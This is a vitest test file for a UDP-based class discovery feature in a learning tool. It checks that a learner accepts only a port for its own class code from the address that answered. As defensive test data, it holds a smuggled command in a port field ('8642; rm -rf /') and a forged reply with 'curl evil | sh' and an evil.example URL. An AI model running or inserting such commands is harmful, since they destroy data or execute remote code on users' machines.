// Finding a class by its bare code on the network, over real UDP on loopback and on this
// machine's own interface: the server answers only its own code, the learner takes nothing
// from an answer but a port on the answering address, and when nobody answers the learner is
// told how to join by URL.
import {createSocket} from 'node:dgram';
import {networkInterfaces} from 'node:os';
import {afterEach, describe, expect, it} from 'vitest';
import {answerPort, discoverClass, normalizeCode, queryAddresses, startResponder, type Responder} from '../../src/class/discovery.js';
import {bareCode, parseJoinTarget, resolveJoin} from '../../src/class/join-target.js';
import {translator} from '../../src/render/i18n.js';
import {UserError} from '../../src/cli/exit-codes.js';
import {hintWords, words} from '../words.js';

const open: Responder[] = [];
afterEach(async () => {
  while (open.length) await open.pop()!.close();
});

/** A free UDP port on loopback (bound, read, released). */
async function freePort(): Promise<number> {
  const s = createSocket('udp4');
  await new Promise<void>((r) => s.bind(0, '127.0.0.1', () => r()));
  const {port} = s.address();
  await new Promise<void>((r) => s.close(() => r()));
  return port;
}

const lanAddress = Object.values(networkInterfaces())
  .flat()
  .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;

describe('class discovery', () => {
  it('reads a code as typed, and tells a code from a URL', () => {
    expect(normalizeCode('k7qx-42')).toBe('K7QX42');
    expect(bareCode(' K7QX-42 ')).toBe('K7QX42');
    expect(bareCode('http://10.0.0.2:8642/j/K7QX42')).toBeUndefined();
    expect(bareCode('10.0.0.2:8642/K7QX42')).toBeUndefined();
    expect(parseJoinTarget('K7QX-42', {KATARUN_CLASS_SERVER: '10.0.0.2:8642'})).toEqual({base: 'http://10.0.0.2:8642', code: 'K7QX42'});
  });

  it('finds the class with its code on loopback; another code gets no answer', async () => {
    const port = await freePort();
    open.push(await startResponder({code: 'K7QX42', httpPort: 8765, loopbackOnly: true, port}));
    expect(await discoverClass('K7QX42', {port, waitMs: 10_000, addresses: ['127.0.0.1']})).toBe('http://127.0.0.1:8765/j/K7QX42');
    const t0 = Date.now();
    expect(await discoverClass('ZZZZ99', {port, waitMs: 1200, addresses: ['127.0.0.1']})).toBeUndefined();
    expect(Date.now() - t0).toBeGreaterThanOrEqual(1100);
  });

  it.skipIf(!lanAddress)(`finds it through this machine's network interface (${lanAddress ?? 'none: no non-loopback IPv4 here'}), by its broadcast address`, async () => {
    const port = await freePort();
    open.push(await startResponder({code: 'ABCD23', httpPort: 9000, loopbackOnly: false, port}));
    // Only the interfaces' broadcast addresses (no 127.0.0.1): the query goes over the LAN interface.
    const broadcasts = queryAddresses().filter((a) => a !== '127.0.0.1' && a !== '255.255.255.255');
    const found = await discoverClass('ABCD23', {port, waitMs: 10_000, addresses: broadcasts});
    expect(found).toMatch(/^http:\/\/[\d.]+:9000\/j\/ABCD23$/);
  });

  it('takes from an answer only a port, and only for the code it asked', () => {
    expect(answerPort(Buffer.from(JSON.stringify({katarun: 'class', code: 'K7QX42', port: 8642})), 'K7QX42')).toBe(8642);
    expect(answerPort(Buffer.from(JSON.stringify({katarun: 'class', code: 'OTHER1', port: 8642})), 'K7QX42')).toBeUndefined();
    expect(answerPort(Buffer.from(JSON.stringify({katarun: 'class', code: 'K7QX42', port: '8642; rm -rf /'})), 'K7QX42')).toBeUndefined();
    expect(answerPort(Buffer.from(JSON.stringify({katarun: 'class', code: 'K7QX42', port: 70000})), 'K7QX42')).toBeUndefined();
    expect(answerPort(Buffer.from('not json'), 'K7QX42')).toBeUndefined();
    expect(answerPort(Buffer.alloc(4096, 32), 'K7QX42')).toBeUndefined();
  });

  it('a forged answer naming another host still only sends the learner to the address that answered', async () => {
    const port = await freePort();
    const liar = createSocket('udp4');
    liar.on('message', (_msg, from) => liar.send(JSON.stringify({katarun: 'class', code: 'K7QX42', port: 8642, url: 'http://evil.example/j/K7QX42', run: 'curl evil | sh'}), from.port, from.address));
    await new Promise<void>((r) => liar.bind(port, '127.0.0.1', () => r()));
    try {
      expect(await discoverClass('K7QX42', {port, waitMs: 10_000, addresses: ['127.0.0.1']})).toBe('http://127.0.0.1:8642/j/K7QX42');
    } finally {
      liar.close();
    }
  });

  it('resolveJoin: a found code becomes its join URL; none found is a clear error that says how to join by URL', async () => {
    const t = translator('en');
    const said: string[] = [];
    const out = {write: (s: string) => said.push(s)};
    const url = await resolveJoin('k7qx-42', t, out, {env: {}, discover: async (code) => `http://127.0.0.1:9/j/${code}`});
    expect(url).toBe('http://127.0.0.1:9/j/K7QX42');
    expect(said.join('')).toContain('Looking for the class K7QX42 on the local network (3 seconds)');
    const err = await resolveJoin('K7QX42', t, out, {env: {}, waitMs: 2000, discover: async () => undefined}).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(UserError);
    expect(words((err as UserError).msg)).toBe('--join: no class with the code K7QX42 answered on this network within 2 seconds');
    expect(hintWords(err as UserError)).toContain('--join <that URL>');
    // With KATARUN_CLASS_SERVER, or a URL, nothing is looked for.
    expect(await resolveJoin('K7QX42', t, out, {env: {KATARUN_CLASS_SERVER: '10.1.1.1:8642'}, discover: async () => expect.fail('no discovery')})).toBe('K7QX42');
    expect(translator('ru')('class.discover.none', {code: 'K7QX42', n: 3})).toBe('--join: класс с кодом K7QX42 не ответил в этой сети за 3 секунды');
  });
});
